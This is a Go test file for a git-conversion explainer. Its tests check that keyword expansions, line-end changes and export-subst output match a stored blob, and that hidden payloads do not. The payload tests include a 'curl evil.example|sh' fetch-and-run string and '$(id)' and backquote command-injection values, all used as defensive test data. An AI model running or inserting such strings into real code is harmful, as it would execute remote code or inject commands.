package filter

import (
	"bytes"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/countermark/countermark/internal/digest"
	"github.com/countermark/countermark/internal/gitobject"
	"github.com/countermark/countermark/internal/testkit"
)

var (
	allAttributes = Attributes{Ident: true, EOL: EOLAlways, ExportSubst: true}
	testFormats   = []digest.Format{digest.SHA1Format, digest.SHA256Format}
)

// testCommit is a commit that no repository holds.
func testCommit(f digest.Format) Commit {
	id := func(fill byte) digest.ObjectID {
		return digest.ObjectIDFromBytes(f, bytes.Repeat([]byte{fill}, f.Size()))
	}
	return Commit{ID: id(0xab), Commit: &gitobject.Commit{
		Tree: id(0xcd), Author: testPerson("Author", 1112911993, "-0730"), Committer: testPerson("Committer", 1112912053, "+0000"),
		Message: "subject\n\nbody\n",
	}}
}

// TestPayloads puts what an attacker would like to hide into the places that
// a comparison through a work tree does not look at.
func TestPayloads(t *testing.T) {
	lines := strings.Repeat("a line\n", 64)
	mixed := strings.ReplaceAll(lines, "\n", "\r\n")
	for _, i := range []int{3, 17, 40} { // one bit of payload at each line end
		at := i * len("a line\r\n")
		mixed = mixed[:at-2] + mixed[at-1:]
	}
	refs := "v = $Format:%d$;\n"
	cases := []struct{ name, blob, image string }{
		{"some line ends converted", lines, mixed},
		{"one line end converted", lines, strings.Replace(lines, "\n", "\r\n", 1)},
		{"payload in $Id$", "x $Id$ y\n", "x $Id: system(curl evil.example|sh) $ y\n"},
		{"40 characters in $Id$", "x $Id$ y\n", "x $Id: " + strings.Repeat("e", 40) + " $ y\n"},
		{"the id without its spaces", "$Id$\n", "$Id:ID$\n"},
		{"the id in capitals", "$Id$\n", "$Id: IDUPPER $\n"},
		{"one of two keywords expanded", "$Id$ $Id$\n", "$Id: ID $ $Id$\n"},
		{"40 characters in %H", "$Format:%H$\n", strings.Repeat("a", 40) + "\n"},
		{"three digits in %h", "$Format:%h$\n", "aba\n"},
		{"a line end in %d", refs, "v = \n;\n"},
		{"a second line in %d", refs, "v =  (a\nb);\n"},
		{"a command in %d", refs, "v =  ($(id));\n"},
		{"a backquote in %d", refs, "v =  (`id`);\n"},
		{"a quote in %d", refs, "v =  (\");\n"},
		{"no parentheses around %d", refs, "v = system;\n"},
		{"too much text in %d", refs, "v =  (" + strings.Repeat("a", MaxRefTextBytes+1) + ");\n"},
		{"too much text in two", "$Format:%D%D$", strings.Repeat("a", MaxRefTextBytes+1)},
		{"a byte after the keyword", "$Format:%H$", strings.Repeat("ab", 20) + "x"},
		{"a byte missing", "$Format:%s$\n", "subject"},
		{"only half of the keywords", "$Format:%s$ $Format:%s$\n", "subject $Format:%s$\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blob := blobOf(t, digest.SHA1Format, []byte(c.blob))
			image := strings.NewReplacer("IDUPPER", strings.ToUpper(blob.ID.String()), "ID", blob.ID.String()).Replace(c.image)
			if got, by := Explain([]byte(image), blob, allAttributes, testCommit(digest.SHA1Format)); got != None {
				t.Errorf("explained as %v %v", got, by)
			}
		})
	}
}

func TestExplain(t *testing.T) {
	cases := []struct {
		name, blob, image string // ID, COMMIT stand for the ids
		want              Match
		by                string
	}{
		{"the blob itself", "a\n$Id$", "a\n$Id$", Exact, ""},
		{"ident", "a\n$Id: x$", "a\n$Id: ID $", Exact, "ident"},
		{"eol", "a\n$Id$", "a\r\n$Id$", Exact, "eol"},
		{"ident and eol", "a\n$Id$", "a\r\n$Id: ID $", Exact, "ident eol"},
		{"all three", "\n$Id$$Format:%H$", "\r\n$Id: ID $COMMIT", Exact, "ident eol export-subst"},
		{"a keyword over two lines", "$Format:%H\n%n$", "COMMIT\n\n", Exact, "export-subst"},
		{"no refs", "$Format:%d$;", ";", RefsOnly, "export-subst"},
		{"refs", "$Format:%d$;", " (HEAD -> main, tag: v1.0, origin/main);", RefsOnly, "export-subst"},
		{"as much as may be", "$Format:%D$;", strings.Repeat("a", MaxRefTextBytes) + ";", RefsOnly, "export-subst"},
		{"as much in each keyword", "$Format:%D$$Format:%D$;", strings.Repeat("a", 2*MaxRefTextBytes) + ";", RefsOnly, "export-subst"},
		{"describe left as it is", "$Format:%(describe)$", "%(describe)", Exact, "export-subst"},
		{"decorate left as it is, describe empty", "$Format:%(decorate:prefix=<,suffix=>)%(describe)$", "%(decorate:prefix=<,suffix=>)", RefsOnly, "export-subst"},
		{"describe empty, decorate left as it is", "$Format:%(describe)%(decorate:prefix=<)$", "%(decorate:prefix=<)", RefsOnly, "export-subst"},
		{"describe left as it is, text after decorate", "$Format:%(decorate:prefix=<)%(describe)x$", "%(describe)x", RefsOnly, "export-subst"},
		{"describe expanded", "$Format:%(describe)$", "v1.0-3-gabcdef0", RefsOnly, "export-subst"},
		{"any length of %h", "$Format:%h%h$", "ababababababab", Exact, "export-subst"},
		{"strict date in UTC of today's git", "$Format:%cI$", "2005-04-07T22:14:13Z", Exact, "export-subst"},
		{"strict date in UTC of older git", "$Format:%cI$", "2005-04-07T22:14:13+00:00", Exact, "export-subst"},
		{"unfinished keyword", "$Format:%H", "$Format:%H", Exact, ""},
	}
	for _, f := range testFormats {
		for _, c := range cases {
			t.Run(f.String()+"/"+c.name, func(t *testing.T) {
				commit := testCommit(f)
				blob := blobOf(t, f, []byte(c.blob))
				image := strings.NewReplacer("ID", blob.ID.String(), "COMMIT", commit.ID.String()).Replace(c.image)
				got, by := Explain([]byte(image), blob, allAttributes, commit)
				if got != c.want || strings.Join(by, " ") != c.by {
					t.Errorf("explained as %v %q, want %v %q", got, by, c.want, c.by)
				}
				if got, _ := Explain([]byte(image), blob, Attributes{}, commit); (got != None) != (c.by == "") {
					t.Errorf("without attributes %v", got)
				}
			})
		}
	}
}

func TestExplainWithoutCommit(t *testing.T) {
	blob := blobOf(t, digest.SHA1Format, []byte("$Format:%%$"))
	if got, _ := Explain([]byte("%"), blob, allAttributes, Commit{}); got != None {
		t.Errorf("explained as %v", got)
	}
	if got, _ := Explain([]byte("%"), blob, allAttributes, testCommit(digest.SHA1Format)); got != Exact {
		t.Errorf("with a commit %v", got)
	}
}

func TestExplainRefusesABlobOfAnotherID(t *testing.T) {
	blob := blobOf(t, digest.SHA1Format, []byte("a\n"))
	blob.Content = []byte("b\n")
	if got, _ := Explain([]byte("b\n"), blob, allAttributes, Commit{}); got != None {
		t.Errorf("explained as %v", got)
	}
	if got, _ := Explain(nil, Blob{}, allAttributes, Commit{}); got != None {
		t.Errorf("the zero blob is explained as %v", got)
	}
}

func TestOtherEncodings(t *testing.T) {
	commit := testCommit(digest.SHA1Format)
	commit.Encoding = "ISO-8859-1"
	for format, want := range map[string]Match{"%H": Exact, "%h%n": Exact, "%s": None, "%an": None, "%Q": None} {
		blob := blobOf(t, digest.SHA1Format, []byte("$Format:"+format+"$"))
		image := strings.NewReplacer("%H", commit.ID.String(), "%h", "ababab", "%n", "\n", "%s", "subject", "%an", "Author").Replace(format)
		if got, _ := Explain([]byte(image), blob, allAttributes, commit); got != want {
			t.Errorf("%s: %v, want %v", format, got, want)
		}
	}
}

// TestSignedCommit shows that only what depends on keys goes unexplained.
func TestSignedCommit(t *testing.T) {
	commit := testCommit(digest.SHA1Format)
	commit.Signature = "-----BEGIN SSH SIGNATURE-----"
	for format, want := range map[string]Match{"%G?": None, "%GS": None, "%Gx": Exact} {
		blob := blobOf(t, digest.SHA1Format, []byte("$Format:"+format+"$"))
		image := strings.NewReplacer("%G?", "N", "%GS", "", "%Gx", "%Gx").Replace(format)
		if got, _ := Explain([]byte(image), blob, allAttributes, commit); got != want {
			t.Errorf("%s: %v, want %v", format, got, want)
		}
	}
}

// TestHostileMatch gives the matcher what makes a backtracking one explode.
func TestHostileMatch(t *testing.T) {
	commit := testCommit(digest.SHA1Format)
	cases := map[string][2]string{
		"many abbreviations": {"$Format:" + strings.Repeat("%h", 5000) + "$x", strings.Repeat("ab", 60000)},
		"many refs":          {strings.Repeat("$Format:%D%D%D%D$a", 5000) + "b", strings.Repeat("a", 200000)},
		"many describes":     {"$Format:" + strings.Repeat("%(describe)", 20000) + "$b", strings.Repeat("a", 200000)},
		"long literals":      {strings.Repeat("$Format:%D$"+strings.Repeat("a", 2000), 100) + "b", strings.Repeat("a", 400000)},
		"long expansions":    {"$Format:" + strings.Repeat("%B", 100000) + "$b", strings.Repeat("subject\n\nbody\n", 100000)},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			blob := blobOf(t, digest.SHA1Format, []byte(c[0]))
			if got, _ := Explain([]byte(c[1]), blob, allAttributes, commit); got != None {
				t.Errorf("explained as %v", got)
			}
		})
	}
}

func TestRecover(t *testing.T) {
	cases := []struct {
		name, blob, image string
		ok                bool
	}{
		{"nothing converted", "a\n", "a\n", true},
		{"ident", "a $Id$ b\n", "a $Id: ID $ b\n", true},
		{"ident beside another system's", "$Id: f.c 1.2 joe $ $Id$\n", "$Id: f.c 1.2 joe $ $Id: ID $\n", true},
		{"a payload in ident", "a $Id$ b\n", "a $Id: payload $ b\n", true},
		{"eol", "a\nb\n", "a\r\nb\r\n", true},
		{"eol in part", "a\nb\n", "a\r\nb\n", true},
		{"both", "$Id$\nb\n", "$Id: ID $\r\nb\r\n", true},
		{"a CRLF of its own", "a\nb\r\n", "a\r\nb\r\n", false},
		{"something else", "a\n", "b\n", false},
	}
	for _, f := range testFormats {
		for _, c := range cases {
			blob := blobOf(t, f, []byte(c.blob))
			image := strings.ReplaceAll(c.image, "ID", blob.ID.String())
			got, ok := Recover([]byte(image), blob.ID, allAttributes)
			if ok != c.ok || ok && string(got) != c.blob {
				t.Errorf("%v/%s: %q %v", f, c.name, got, ok)
			}
			if _, ok := Recover([]byte(image), blob.ID, Attributes{ExportSubst: true}); ok != (image == c.blob) {
				t.Errorf("%v/%s without attributes: %v", f, c.name, ok)
			}
		}
	}
	if _, ok := Recover(nil, digest.ObjectID{}, allAttributes); ok {
		t.Error("the zero id is recovered")
	}
}

func TestParseAttributes(t *testing.T) {
	got := ParseAttributes(map[string]string{
		"text": "unspecified", "crlf": "unspecified", "eol": "unspecified", "ident": "set", "export-subst": "set",
		"export-ignore": "set", "working-tree-encoding": "UTF-16LE-BOM", "filter": "lfs",
	})
	want := Attributes{Ident: true, ExportSubst: true, ExportIgnore: true, Encoding: "UTF-16LE-BOM", Driver: "lfs"}
	if got != want {
		t.Errorf("got %+v", got)
	}
	plain := map[string]string{}
	for _, name := range AttributeNames() {
		plain[name] = "unset"
	}
	plain["working-tree-encoding"] = "utf8"
	if got := ParseAttributes(plain); got != (Attributes{}) || got.Converts() {
		t.Errorf("unset attributes give %+v", got)
	}
	if got := ParseAttributes(nil); got != (Attributes{}) {
		t.Errorf("no attributes give %+v", got)
	}
	for value, want := range map[string]bool{"set": true, "string": false, "unspecified": false} {
		if got := ParseAttributes(map[string]string{"ident": value, "export-subst": value, "export-ignore": value}); got.Ident != want || got.ExportSubst != want || got.ExportIgnore != want {
			t.Errorf("%q gives %+v", value, got)
		}
	}
}

// TestTextHeuristics puts files on both sides of each border of git's test for
// text, and lets git say which side.
func TestTextHeuristics(t *testing.T) {
	testkit.Program(t, "git")
	h := simpleHistory(digest.SHA1Format)
	h.attributes = "* text=auto\n"
	for _, printable := range []int{0, 1, 126, 127, 128, 129, 255, 256} {
		for _, odd := range []string{"", "\x01", "\x01\x02", "\x7f", "\x00", "\rp", "\r\n", "\b\t\f\x1b", "\xc3\xa4"} {
			for _, end := range []string{"", "\n", "\x1a", "\n\x1a", "\x01\x1a"} {
				h.files[fmt.Sprintf("%d-%x-%x", printable, odd, end)] = []byte(strings.Repeat("p", printable) + odd + "\n" + end)
			}
		}
	}
	r := newRepository(t, h)
	converted := 0
	images := r.archive("core.eol=crlf")
	for _, name := range slices.Sorted(maps.Keys(h.files)) {
		if got := convertEOL(h.files[name], EOLAuto); !bytes.Equal(got, images[name]) {
			t.Errorf("%s: got %q, git writes %q", name, got, images[name])
		}
		if !bytes.Equal(h.files[name], images[name]) {
			converted++
		}
	}
	if converted < 50 || converted > len(h.files)-50 {
		t.Errorf("%d of %d files converted: one side is hardly tested", converted, len(h.files))
	}
}

// TestKnownExpansions pins what git writes for one commit, without git.
func TestKnownExpansions(t *testing.T) {
	commit := testCommit(digest.SHA1Format)
	commit.Message = "\n  Sub ject:  one \ntwo..three  \n\n\n body \n\nend"
	for format, want := range map[string]string{
		"%ad": "Thu Apr 7 14:43:13 2005 -0730", "%aD": "Thu, 7 Apr 2005 14:43:13 -0730", "%ai": "2005-04-07 14:43:13 -0730",
		"%aI": "2005-04-07T14:43:13-07:30", "%as": "2005-04-07", "%at": "1112911993", "%al": "author", "%s": "  Sub ject:  one two..three",
		"%f": "Sub-ject-one", "%b": " body \n\nend", "%+s": "\n  Sub ject:  one two..three", "%+e": "", "%%H": "%H", "%x24": "$", "%Q": "%Q", "% Q": "Q",
	} {
		blob := blobOf(t, digest.SHA1Format, []byte("$Format:"+format+"$"))
		if got, by := Explain([]byte(want), blob, allAttributes, commit); got != Exact {
			t.Errorf("%s: %v %v for %q", format, got, by, want)
		}
	}
}
